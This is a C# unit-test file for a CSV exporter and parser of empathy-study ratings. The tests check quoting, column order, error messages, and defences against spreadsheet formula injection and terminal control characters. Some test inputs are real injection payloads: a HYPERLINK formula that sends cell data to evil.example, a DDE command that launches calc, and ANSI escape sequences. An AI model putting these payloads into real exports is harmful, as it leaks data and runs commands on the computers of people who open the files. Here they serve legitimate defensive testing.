using EmpathyBot.Core.Interchange;
using EmpathyBot.Core.Study;
using EmpathyBot.Core.Text;

namespace EmpathyBot.Core.Tests.Interchange;

public sealed class RatingsCsvTests
{
    private const string Header = "prompt_id,emotion,situation,utterance,source,response_id,response,rater,rating";

    [Fact]
    public void Rows_round_trip_with_quotes_commas_and_newlines()
    {
        var row = new RatingRow("p1", "sad", "Lost my \"lucky\" pen, sadly", "It was\nmy dad's.", "gpt-4o", "r1", "Oh, no!", "rater-1", RatingValue.Okay);
        var writer = new StringWriter();
        RatingsCsv.WriteHeader(writer);
        RatingsCsv.Write(writer, row);

        var parsed = RatingsCsv.Parse(new StringReader(writer.ToString()));
        Assert.Empty(parsed.Errors);
        Assert.Equal(row, Assert.Single(parsed.Rows));
    }

    [Fact]
    public void Ratings_are_read_in_any_case_and_columns_in_any_order()
    {
        var csv = "rating,rater,response,response_id,source,utterance,situation,emotion,prompt_id\nGOOD,r,hi,x1,human,u,s,Joyful,p\n";
        var row = Assert.Single(RatingsCsv.Parse(new StringReader(csv)).Rows);
        Assert.Equal(RatingValue.Good, row.Rating);
        Assert.Equal("joyful", row.Emotion);
    }

    [Fact]
    public void Every_bad_row_is_reported_with_its_line()
    {
        var csv = string.Join('\n', Header,
            "p1,sad,s,u,human,r1,text,a,good",
            "p1,bored,s,u,human,r1,text,b,good",
            "p1,sad,s,u,human,r1,text,c,excellent",
            "p1,sad,s,u,,r1,text,d,bad",
            "p1,sad,s",
            "");
        var parsed = RatingsCsv.Parse(new StringReader(csv));
        Assert.Single(parsed.Rows);
        Assert.Equal([3, 4, 5, 6], parsed.Errors.Select(e => e.Line));
        Assert.Contains("unknown emotion 'bored'", parsed.Errors[0].Message);
        Assert.Contains("'excellent' is not good, okay or bad", parsed.Errors[1].Message);
        Assert.Contains("source is empty", parsed.Errors[2].Message);
    }

    [Fact]
    public void A_header_without_the_required_columns_is_rejected()
    {
        var parsed = RatingsCsv.Parse(new StringReader("prompt_id,rating\np,good\n"));
        Assert.Empty(parsed.Rows);
        Assert.Contains("missing column", Assert.Single(parsed.Errors).Message);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\"")]
    [InlineData("+1+1", "'+1+1")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1:A9)", "'@SUM(A1:A9)")]
    [InlineData("\t=1+1", "'\t=1+1")]
    [InlineData("\r=1+1", "\"'\r=1+1\"")]
    [InlineData("\uFF1D1+1", "'\uFF1D1+1")]
    [InlineData("'=1+1", "''=1+1")]
    public void Cells_a_spreadsheet_would_run_as_a_formula_get_a_leading_quote(string value, string written)
    {
        Assert.Equal(written, Csv.Escape(value));
    }

    [Theory]
    [InlineData("a-b = c")]
    [InlineData("I'm sorry")]
    [InlineData("'quoted'")]
    [InlineData("")]
    public void Other_cells_are_written_as_they_are(string value)
    {
        Assert.Equal(value, Csv.Escape(value));
    }

    [Fact]
    public void Export_then_import_then_export_gives_the_same_file_and_ratings()
    {
        RatingRow[] rows =
        [
            new("p1", "sad", "=1+1", "+cmd|' /C calc'!A0", "human", "r1", "=HYPERLINK(\"http://evil.example\",\"x\")", "rater-1", RatingValue.Good),
            new("-p2", "sad", "'=already quoted", "@me", "gpt-4o", "r2", "\t=tabbed\nsecond line", "'-rater", RatingValue.Bad),
            new("p3", "sad", "\r\n=after a break", "- a list", "human", "r3", "''+two quotes", "rater-3", RatingValue.Okay),
        ];

        var first = Export(rows);
        var imported = RatingsCsv.Parse(new StringReader(first));
        Assert.Empty(imported.Errors);
        Assert.Equal(rows, imported.Rows);
        Assert.Equal(first, Export(imported.Rows));
    }

    [Fact]
    public void Control_characters_are_written_as_visible_stand_ins_that_read_back_as_written()
    {
        var row = new RatingRow("p1", "sad", "s", "u", "human", "r1", "bell\u0007 escape\u001b[31m nul\u0000 del\u007f csi\u009b tab\tend", "rater", RatingValue.Good);
        var written = Export([row]);

        Assert.DoesNotContain(written, c => ControlCharacters.IsRefused(c));
        Assert.Contains("bell\u2407 escape\u241b[31m nul\u2400 del\u2421 csi\uFFFD tab\tend", written);
        var imported = RatingsCsv.Parse(new StringReader(written));
        Assert.Empty(imported.Errors);
        Assert.Equal(written, Export(imported.Rows));
    }

    [Fact]
    public void A_raw_control_character_makes_the_row_bad_with_its_column_and_position()
    {
        var csv = string.Join('\n', Header, "p1,sad,s,u,human,r1,ok,a,good", "p1,sad,s,u,human,r2,te\u001bxt,b,good", "");
        var parsed = RatingsCsv.Parse(new StringReader(csv));

        Assert.Single(parsed.Rows);
        var error = Assert.Single(parsed.Errors);
        Assert.Equal(3, error.Line);
        Assert.Contains("response contains the control character U+001B at position 3", error.Message);
    }

    private static string Export(IEnumerable<RatingRow> rows)
    {
        var writer = new StringWriter();
        RatingsCsv.WriteHeader(writer);
        foreach (var row in rows) RatingsCsv.Write(writer, row);
        return writer.ToString();
    }
}
